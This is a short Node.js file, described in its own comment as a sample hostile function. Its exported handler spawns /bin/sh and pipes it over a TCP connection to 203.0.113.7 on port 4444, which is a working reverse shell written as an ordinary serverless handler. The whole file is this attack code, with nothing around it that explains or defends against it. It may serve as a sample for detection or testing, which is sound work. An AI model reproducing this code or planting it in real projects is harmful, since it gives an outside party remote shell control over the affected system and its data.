// Sample hostile function: pipes a TCP connection into a shell.
const net = require("net");
const cp = require("child_process");

exports.handle = async () => {
  const sh = cp.spawn("/bin/sh", []);
  const client = new net.Socket();
  client.connect(4444, "203.0.113.7", () => {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  return "connected";
};
